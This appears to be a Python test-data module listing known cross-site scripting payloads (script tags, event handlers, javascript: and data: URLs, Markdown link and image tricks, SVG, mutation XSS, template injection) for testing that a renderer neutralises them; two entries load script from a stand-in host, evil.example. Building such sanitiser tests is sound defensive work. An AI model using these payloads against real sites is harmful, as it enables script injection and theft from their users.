"""Known cross-site scripting payloads, as data, for the rendering tests.

Each payload has a short name (it appears in test ids) and the exact text an author could put in a
pack or an import. They cover: script tags in many spellings, event handlers, dangerous URL schemes
(plain, mixed case, entity-encoded, split by tabs and newlines), the same through Markdown links,
images, reference links and autolinks, SVG and MathML, frames and plugins, CSS, meta refresh, base,
forms, comment and CDATA tricks, mutation XSS, template injection and escape-sequence look-alikes.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

PAYLOADS: tuple[Payload, ...] = (
    # Script tags in every case and a few parser confusions.
    Payload("script-lower", "<script>alert(1)</script>"),
    Payload("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    Payload("script-mixed", "<ScRiPt>alert(1)</sCrIpT>"),
    Payload("script-src", "<script src=//evil.example/x.js></script>"),
    Payload("script-slash-attr", "<script/xss src=//evil.example/x.js></script>"),
    Payload("script-double-open", "<<script>alert(1)//<</script>"),
    Payload("script-nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Payload("script-nul", "<scr\x00ipt>alert(1)</script>"),
    Payload("script-unclosed", "<script>alert(1)"),
    Payload("script-after-quote", '"><script>alert(1)</script>'),
    Payload("script-after-apos", "'><script>alert(1)</script>"),
    Payload("close-title", "</title><script>alert(1)</script>"),
    Payload("close-textarea", "</textarea><script>alert(1)</script>"),
    # Event handlers.
    Payload("img-onerror", "<img src=x onerror=alert(1)>"),
    Payload("img-onerror-mixed", "<IMG SRC=x OnErRoR=alert(1)>"),
    Payload("img-onerror-fromcharcode", '<img src="x" onerror="alert(String.fromCharCode(88,83,83))">'),
    Payload("img-onerror-apos-break", "'><img src=x onerror=alert(1)>"),
    Payload("body-onload", "<body onload=alert(1)>"),
    Payload("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    Payload("input-onfocus-autofocus", "<input onfocus=alert(1) autofocus>"),
    Payload("details-ontoggle", "<details open ontoggle=alert(1)>"),
    Payload("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    Payload("audio-onerror", "<audio src=x onerror=alert(1)>"),
    Payload("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    Payload("custom-onclick", "<x onclick=alert(1)>click me"),
    Payload("backtick-svg-onload", '`"><svg onload=alert(1)>'),
    # Dangerous URL schemes in HTML.
    Payload("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    Payload("a-javascript-mixed", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    Payload(
        "a-javascript-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    Payload(
        "a-javascript-hex-entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    ),
    Payload("a-javascript-padded-entity", '<a href="javascript&#0000058alert(1)">x</a>'),
    Payload("a-javascript-tab", '<a href="java\tscript:alert(1)">x</a>'),
    Payload("a-javascript-newline", '<a href="java\nscript:alert(1)">x</a>'),
    Payload("a-javascript-control-prefix", '<a href=" \x01javascript:alert(1)">x</a>'),
    Payload("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    Payload("a-data-html-base64", f'<a href="data:text/html;base64,{_B64_SCRIPT}">x</a>'),
    Payload("a-data-html-plain", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    # The same through Markdown.
    Payload("md-link-javascript", "[click](javascript:alert(1))"),
    Payload("md-link-javascript-upper", "[click](JAVASCRIPT:alert(1))"),
    Payload("md-link-javascript-entity", "[click](&#106;avascript:alert(1))"),
    Payload("md-link-javascript-tab-entity", "[click](java&#x09;script:alert(1))"),
    Payload("md-link-javascript-colon-entity", "[click](javascript&colon;alert(1))"),
    Payload("md-link-javascript-angle", "[click](<javascript:alert(1)>)"),
    Payload("md-link-javascript-paren-entities", "[click](javascript:alert&#40;1&#41;)"),
    Payload("md-link-vbscript", "[click](vbscript:msgbox(1))"),
    Payload("md-link-data-html", f"[click](data:text/html;base64,{_B64_SCRIPT})"),
    Payload("md-link-data-image", "[click](data:image/png;base64,iVBORw0KGgo=)"),
    Payload("md-link-title-breakout", '[x](http://a.example/ "t\\" onmouseover=\\"alert(1)")'),
    Payload("md-reference-link", "[click][ref]\n\n[ref]: javascript:alert(1)"),
    Payload("md-reference-link-angle-title", '[click][ref]\n\n[ref]: <javascript:alert(1)> "title"'),
    Payload("md-autolink-javascript", "<javascript:alert(1)>"),
    Payload("md-autolink-javascript-mixed", "<JavaScript:alert(1)>"),
    Payload("md-bare-javascript-url", "javascript:alert(1)"),
    Payload("md-image-javascript", "![x](javascript:alert(1))"),
    Payload("md-image-quote-breakout", '![x](x.png"onerror="alert(1))'),
    Payload("md-image-title-breakout", '![x](http://a.example/x.png "\\" onerror=\\"alert(1)")'),
    Payload("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    Payload("md-image-data-png", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    Payload("md-image-reference", "![x][img]\n\n[img]: javascript:alert(1)"),
    Payload("md-audio-javascript", "![audio: listen](javascript:alert(1).mp3)"),
    Payload("md-video-data", "![video: watch](data:video/mp4;base64,AAAA.mp4)"),
    Payload("md-video-quote-breakout", '![video: x](media/x.mp4" onerror="alert(1))'),
    Payload("md-image-in-link", "[![x](javascript:alert(1))](javascript:alert(2))"),
    Payload("md-fence-info-breakout", '```"><script>alert(1)</script>\ncode\n```'),
    Payload("md-fence-info-handler", "```js onload=alert(1)\ncode\n```"),
    # SVG and MathML.
    Payload("svg-onload", "<svg onload=alert(1)>"),
    Payload("svg-script", "<svg><script>alert(1)</script></svg>"),
    Payload("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    Payload("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    Payload("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(1)"/>x</a></svg>'),
    Payload("math-xlink-href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    # Frames, plugins, documents.
    Payload("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    Payload("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    Payload("object-javascript", '<object data="javascript:alert(1)"></object>'),
    Payload("object-data-html", f'<object data="data:text/html;base64,{_B64_SCRIPT}"></object>'),
    Payload("embed-javascript", '<embed src="javascript:alert(1)">'),
    # CSS.
    Payload("style-url-javascript", '<style>body{background:url("javascript:alert(1)")}</style>'),
    Payload("style-attr-expression", '<div style="width: expression(alert(1))">x</div>'),
    Payload("style-attr-url-javascript", '<div style="background:url(javascript:alert(1))">x</div>'),
    Payload("link-stylesheet", '<link rel=stylesheet href="javascript:alert(1)">'),
    Payload("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    Payload("img-dynsrc", '<img dynsrc="javascript:alert(1)">'),
    # Document-level elements and forms.
    Payload("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    Payload("base-href", '<base href="javascript:alert(1)//">'),
    Payload("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    Payload("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    Payload("isindex-action", "<isindex action=javascript:alert(1) type=image>"),
    # Comments, CDATA and conditional comments.
    Payload("comment-attr-confusion", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    Payload("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Payload("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    # Mutation XSS: markup whose meaning changes when parsed a second time.
    Payload("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Payload(
        "mxss-math-style",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ),
    Payload("mxss-svg-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    Payload(
        "mxss-form-math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    Payload("mxss-xmp", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    Payload("template-script", "<template><script>alert(1)</script></template>"),
    # Template injection and escape-sequence look-alikes (must come out as inert text).
    Payload("angular-constructor", "{{constructor.constructor('alert(1)')()}}"),
    Payload("jinja-expression", "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}"),
    Payload("js-template-literal", "${alert(1)}#{alert(1)}"),
    Payload("cloze-with-html", "{{c1::<img src=x onerror=alert(1)>::<script>alert(1)</script>}}"),
    Payload("unicode-escape-script", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    Payload("unicode-escape-handler", "<img src=x onerror=\\u0061lert(1)>"),
    Payload("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    Payload("slot-marker-forgery", "\ue0000\ue001<img src=x onerror=alert(1)>\ue0009\ue001"),
)
